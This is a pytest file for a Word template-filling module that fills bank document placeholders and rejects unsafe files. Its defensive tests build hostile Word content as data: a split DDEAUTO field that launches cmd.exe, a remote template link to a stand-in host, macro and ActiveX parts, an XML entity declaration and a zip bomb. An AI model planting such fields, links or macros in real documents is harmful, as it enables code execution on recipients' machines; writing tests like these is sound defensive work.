"""A bank's own Word templates are filled whole, and nothing that runs gets in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest
from docx import Document
from docx.shared import RGBColor
from hypothesis import given, settings
from hypothesis import strategies as st

from tidui.exchange.faults import FileError
from tidui.exchange.word import check_template, fill_template, placeholders_of
from tidui.library.messages import messages


def word(build: Callable[[Any], None]) -> bytes:
    made: Any = Document()
    build(made)
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def lines(*texts: str) -> bytes:
    return word(lambda made: [made.add_paragraph(text) for text in texts])


def read(content: bytes) -> Any:
    return Document(io.BytesIO(content))


def changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return the document with one member changed, or made."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w") as new:
        for member in old.namelist():
            if member != name:
                new.writestr(member, old.read(member))
        new.writestr(name, change(old.read(name) if name in old.namelist() else b""))
    return target.getvalue()


def refused(content: bytes, **values: str) -> str:
    with pytest.raises(FileError) as caught:
        fill_template(content, values)
    code = caught.value.issue.code
    assert code in messages()
    return code


def texts(made: Any) -> list[str]:
    return [paragraph.text for paragraph in made.paragraphs]


def test_a_placeholder_is_filled_wherever_it_stands() -> None:
    def build(made: Any) -> None:
        made.add_paragraph("{{name}}同志，{{ name }}")
        made.add_table(1, 1).cell(0, 0).text = "格内{{name}}"
        made.sections[0].header.paragraphs[0].text = "{{bank}}"
        made.sections[0].footer.paragraphs[0].text = "第{{no}}号"

    made = read(fill_template(word(build), {"name": "林晓雯", "bank": "本行", "no": "7"}))
    assert texts(made)[0] == "林晓雯同志，林晓雯"
    assert made.tables[0].cell(0, 0).text == "格内林晓雯"
    assert made.sections[0].header.paragraphs[0].text == "本行"
    assert made.sections[0].footer.paragraphs[0].text == "第7号"


@pytest.mark.parametrize(
    "cut", [("{", "{name}}"), ("{{na", "me}}"), ("{{name}", "}"), ("{{", "n", "am", "e", "}}")]
)
def test_a_placeholder_that_word_split_keeps_the_look_it_begins_with(
    cut: tuple[str, ...],
) -> None:
    def build(made: Any) -> None:
        paragraph = made.add_paragraph()
        paragraph.add_run("聘任").italic = True
        for number, text in enumerate(cut):
            run = paragraph.add_run(text)
            run.bold = number == 0
            run.font.color.rgb = RGBColor(200, 0, 0) if number == 0 else None
        paragraph.add_run(" 为行长")

    runs = read(fill_template(word(build), {"name": "林晓雯"})).paragraphs[0].runs
    assert "".join(run.text for run in runs) == "聘任林晓雯 为行长"
    assert [run.bold for run in runs if run.text == "林晓雯"] == [True]
    assert runs[0].italic
    assert runs[1].font.color.rgb == RGBColor(200, 0, 0)
    assert not runs[-1].bold


def test_full_width_braces_and_chinese_names_count() -> None:
    content = fill_template(lines("｛｛姓名｝｝与{{工号}}"), {"姓名": "甲", "工号": "E1"})
    assert texts(read(content)) == ["甲与E1"]


def test_a_value_with_line_breaks_has_them_on_paper() -> None:
    content = fill_template(lines("地址：{{a}}。"), {"a": "一\r\n二\n三"})
    assert texts(read(content)) == ["地址：一\n二\n三。"]


def test_a_value_is_data_and_never_searched_or_run() -> None:
    nasty = '{{bank}} <w:p/> & "quoted" \x07'
    made = read(fill_template(lines("{{name}}"), {"name": nasty, "bank": "secret"}))
    assert texts(made) == ['{{bank}} <w:p/> & "quoted" ']


def rows(made: Any) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in made.tables[0].rows]


def table(*cells: tuple[str, ...]) -> bytes:
    def build(made: Any) -> None:
        grid = made.add_table(len(cells), len(cells[0]))
        for line, texts_of_row in zip(grid.rows, cells, strict=True):
            for cell, text in zip(line.cells, texts_of_row, strict=True):
                cell.text = text

    return word(build)


def test_a_row_is_repeated_for_each_entry_of_its_list() -> None:
    content = table(
        ("序号", "姓名"), ("{{people.no}}", "{{people.name}}（{{bank}}）"), ("合计", "{{n}}")
    )
    people = [{"no": "1", "name": "甲"}, {"no": "2", "name": "{{people.no}}{{bank}}"}]
    values = {"bank": "本行", "n": "2"}
    made = read(fill_template(content, values, {"people": people}))
    assert rows(made) == [
        ["序号", "姓名"], ["1", "甲（本行）"], ["2", "{{people.no}}{{bank}}（本行）"],
        ["合计", "2"],
    ]  # fmt: skip


def test_an_empty_list_leaves_no_row_but_the_only_one() -> None:
    content = table(("姓名",), ("{{people.name}}",))
    assert rows(read(fill_template(content, {}, {"people": []}))) == [["姓名"]]
    assert rows(read(fill_template(table(("{{people.name}}",)), {}, {"people": []}))) == [[""]]


def test_unknown_placeholders_are_all_named() -> None:
    content = table(("{{people.naming}}", "{{names}}"), ("{{others.x}}", "{{name}}"))
    with pytest.raises(FileError) as caught:
        fill_template(content, {"name": "甲"}, {"people": [{"name": "甲"}]}, shown="聘任书.docx")
    assert caught.value.issue.code == "exchange.word-unknown"
    assert caught.value.issue.where == "聘任书.docx"
    found = dict(caught.value.issue.values)["found"]
    assert found == "{{names}}, {{others.x}}, {{people.naming}}"


def test_a_template_says_what_it_asks_for_and_is_checked_before_use() -> None:
    content = table(("{{people.name}}", "{{bank}}"))
    asked = placeholders_of(content)
    assert (asked.names, dict(asked.lists)) == ({"bank"}, {"people": {"name"}})
    assert check_template(content, asked.names, {"people": frozenset({"name", "no"})}) == asked
    with pytest.raises(FileError, match="word-unknown"):
        check_template(content, asked.names, {"people": frozenset({"no"})})


@pytest.mark.parametrize("text", ["{{name", "name}}", "{{na{{me}}", "{{a}} and }}"])
def test_braces_that_do_not_match_are_refused(text: str) -> None:
    assert refused(lines(text), a="1") == "exchange.word-broken-placeholder"


def test_a_list_outside_a_row_and_two_lists_in_one_are_refused() -> None:
    assert refused(lines("{{people.name}}")) == "exchange.word-list-outside"
    assert refused(table(("{{people.name}}", "{{units.name}}"))) == "exchange.word-two-lists"


def test_the_same_input_gives_the_same_bytes() -> None:
    content = lines("{{name}}")
    assert fill_template(content, {"name": "甲"}) == fill_template(content, {"name": "甲"})


TYPES = "[Content_Types].xml"


def test_macros_are_refused_whatever_the_file_is_called() -> None:
    docm = changed(
        lines("x"), TYPES,
        lambda old: old.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )  # fmt: skip
    assert refused(docm) == "exchange.word-macros"
    hidden = changed(lines("x"), "word/vbaProject.bin", lambda _: b"\xd0\xcf")
    assert refused(hidden) == "exchange.word-active"


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("word/embeddings/oleObject1.bin", b"x"),
        ("word/activeX/activeX1.bin", b"x"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r1" TargetMode="External" '
            b'Type="http://x/attachedTemplate" Target="http://bad.example/x.dotm"/>'
            b"</Relationships>",
        ),
    ],
)
def test_what_runs_or_is_fetched_on_opening_is_refused(member: str, content: bytes) -> None:
    assert refused(changed(lines("x"), member, lambda _: content)) == "exchange.word-active"


def test_a_field_that_starts_a_program_is_refused_even_when_split() -> None:
    field = (
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
        b"<w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>"
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    bad = changed(lines("x"), "word/document.xml", lambda old: old.replace(b"</w:p>", field, 1))
    assert refused(bad) == "exchange.word-active"
    fine = field.replace(b"DD<", b"PA<").replace(b"EAUTO c:\\\\cmd.exe", b"GE")
    page = changed(lines("x"), "word/document.xml", lambda old: old.replace(b"</w:p>", fine, 1))
    assert fill_template(page, {})


def test_what_is_no_word_document_is_refused_by_its_content() -> None:
    assert refused(b"\xd0\xcf\x11\xe0 old or encrypted") == "exchange.no-word"
    assert refused(b"") == "exchange.no-word"
    assert refused(lines("x")[:500]) == "exchange.no-word"
    book = changed(
        lines("x"), TYPES, lambda old: old.replace(b"wordprocessingml", b"spreadsheetml")
    )
    assert refused(book) == "exchange.no-word"
    entity = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "b">]>'
    bomb = changed(lines("x"), "word/document.xml", lambda old: entity + old.partition(b"?>")[2])
    assert refused(bomb) == "exchange.no-word"


def test_a_zip_bomb_is_not_opened() -> None:
    target = io.BytesIO(lines("x"))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/bomb.bin", b"0" * 60_000_000)
    assert refused(target.getvalue()) == "exchange.word-bomb"


def body_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("word/document.xml").decode()


def test_a_text_box_is_filled_apart_from_the_paragraph_it_hangs_in() -> None:
    box = (
        b'{{ou</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>'
        b"<w:txbxContent><w:p><w:r><w:t>{{inner}}</w:t></w:r></w:p></w:txbxContent></v:textbox>"
        b"</v:shape></w:pict></w:r><w:r><w:t>ter}}"
    )
    content = changed(lines("HERE"), "word/document.xml", lambda old: old.replace(b"HERE", box, 1))
    body = body_of(fill_template(content, {"inner": "内", "outer": "外"}))
    assert body.count("外") == body.count("内") == 1
    assert "{{" not in body


def test_what_may_stand_once_in_a_document_is_not_repeated_with_a_row() -> None:
    mark = b'<w:bookmarkStart w:id="1" w:name="here"/><w:bookmarkEnd w:id="1"/></w:p>'
    content = changed(
        table(("{{people.name}}",)), "word/document.xml",
        lambda old: old.replace(b"</w:p>", mark, 1),
    )  # fmt: skip
    body = body_of(fill_template(content, {}, {"people": [{"name": "甲"}, {"name": "乙"}]}))
    assert body.count("<w:tr>") == body.count("</w:tr>") == 2
    assert body.count("bookmarkStart") == 1


WORDS = st.text(st.characters(codec="utf-8", exclude_categories=("C",)), max_size=8).filter(
    lambda text: not set(text) & set("{}｛｝")
)


@settings(max_examples=60)
@given(st.lists(WORDS, min_size=1, max_size=4), WORDS, st.data())
def test_wherever_word_splits_a_text_it_is_filled_the_same(
    around: list[str], value: str, data: st.DataObject
) -> None:
    whole = "{{name}}".join(around)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=8)))
    ends = [0, *cuts, len(whole)]

    def build(made: Any) -> None:
        paragraph = made.add_paragraph()
        for start, end in pairwise(ends):
            paragraph.add_run(whole[start:end])

    assert texts(read(fill_template(word(build), {"name": value}))) == [value.join(around)]
